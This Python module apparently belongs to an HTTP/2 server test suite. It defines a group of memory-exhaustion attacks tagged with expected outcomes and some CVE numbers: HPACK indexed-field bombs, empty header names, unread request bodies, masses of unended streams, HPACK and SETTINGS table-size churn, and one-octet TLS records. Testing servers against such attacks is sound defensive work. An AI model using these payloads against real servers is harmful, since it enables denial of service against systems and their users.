"""What a few octets make the server keep."""
import time

import rawhpack
from corpus import CALM, KEPT, PROTOCOL, RESET, attack
from rawh2_wire import Flag, Setting, Type, frame, settings_payload, u32

GROUP = "memory"
ENTRY = 62                               # the newest entry of the dynamic table


def _bomb(link, field, fields, streams=100):
    """Streams whose field sections are one large entry, referred to again and again."""
    block = link.block()
    link.frame(Type.HEADERS, Flag.END_HEADERS | Flag.END_STREAM, 1,
               block + rawhpack.literal(*field, how=rawhpack.INCREMENTAL))
    refers = rawhpack.indexed(ENTRY) * fields
    for stream in range(3, 3 + 2 * streams, 2):
        link.send(frame(Type.HEADERS, Flag.END_HEADERS | Flag.END_STREAM, stream, block + refers))
    link.read_for(0.3)


@attack("indexed-field bomb, 4 KB entry × 14,000", GROUP, CALM, "limit_bomb", cve="CVE-2016-6581")
def indexed_bomb(link):
    _bomb(link, ("x-large", "y" * 3900), 14_000)


@attack("indexed-field bomb, one-byte fields × 14,000", GROUP, CALM, "limit_bomb",
        cve="CVE-2026-49975")
def small_bomb(link):
    _bomb(link, ("x", "y"), 14_000)


@attack("cookie crumbs, 14,000 of them", GROUP, CALM, "limit_bomb")
def crumbs(link):
    _bomb(link, ("cookie", "a=b"), 14_000)


@attack("names of no length", GROUP, (RESET, CALM), cve="CVE-2019-9516")
def empty_names(link):
    for stream in range(1, 201, 2):
        link.send(link.request(stream, extra=rawhpack.literal("", "x") * 4000))
    link.read_for(5, lambda: link.answered() >= 100)


@attack("requests refused, ever again", GROUP, KEPT, "limit_fields")
def refused_for_long(link):
    field = rawhpack.literal("x", "y" * 400)
    link.ask([(b"/", field * 30 + rawhpack.literal("x", "y" * 22_000))] * 1000)


@attack("bodies that nobody reads", GROUP, (KEPT, RESET, CALM, "GOAWAY FLOW_CONTROL_ERROR"))
def unread_bodies(link):
    for stream in range(1, 201, 2):
        link.send(link.request(stream, b"/", b"POST", end=False))
    data = frame(Type.DATA, 0, 0, b"x" * 600)
    for _ in range(100):
        for stream in range(1, 201, 2):
            link.send(data[:5] + stream.to_bytes(4, "big") + data[9:])
    link.read_for(0.3)


@attack("10,000 streams, none of them ended", GROUP, (PROTOCOL, CALM),
        settings={Setting.INITIAL_WINDOW_SIZE: 0})
def many_streams(link):
    block = link.block(link.site.big)
    for base in range(1, 20_001, 100):
        link.send(b"".join(frame(Type.HEADERS, Flag.END_STREAM | Flag.END_HEADERS, stream, block)
                           for stream in range(base, base + 100, 2)), 50)
    link.read_for(0.5)


@attack("streams opened without end, as many held as there may be", GROUP, KEPT,
        settings={Setting.INITIAL_WINDOW_SIZE: 0})
def held_streams(link):
    """127 wait for their windows; the last one is opened again and again."""
    for stream in range(1, 2 * 127, 2):
        link.send(link.request(stream, link.site.big))
    link.read_for(5, lambda: link.answered() >= 127)
    until = time.monotonic() + 1
    for stream in range(2 * 127 + 1, 20_001, 2):
        answered = link.answered()
        link.send(link.request(stream, b"/hello.txt", b"HEAD"))
        link.read_for(2, lambda: link.answered() > answered)
        if time.monotonic() > until:
            break


@attack("HPACK table sizes that churn", GROUP, (KEPT, PROTOCOL))
def table_churn(link):
    block = link.block()
    changes = b"".join(rawhpack.size_update(n) for n in (0, 4096))
    inserts = b"".join(rawhpack.literal("x-%d" % i, "y" * 60, rawhpack.INCREMENTAL)
                       for i in range(40))
    link.send(frame(Type.WINDOW_UPDATE, 0, 0, u32(2**30)))
    for stream in range(1, 4001, 2):
        link.send(frame(Type.HEADERS, Flag.END_HEADERS | Flag.END_STREAM, stream,
                        changes + block + inserts))
        if stream % 100 == 99:
            link.read_for(2, lambda: link.answered() >= stream // 2)


@attack("the decoder's table made small and large by SETTINGS", GROUP, CALM, "limit_settings")
def encoder_churn(link):
    sizes = [settings_payload([(Setting.HEADER_TABLE_SIZE, size)]) for size in (0, 1 << 20)]
    for stream in range(1, 20_001, 2):
        link.send(frame(Type.SETTINGS, 0, 0, sizes[stream // 2 % 2]) + link.request(stream), 2)


@attack("TLS records of one octet", GROUP, KEPT, tls=True)
def tiny_records(link):
    for stream in range(1, 41, 2):
        for octet in link.request(stream):
            link.send(bytes([octet]), 0)
        link.frames_sent += 1
    link.read_for(0.3)
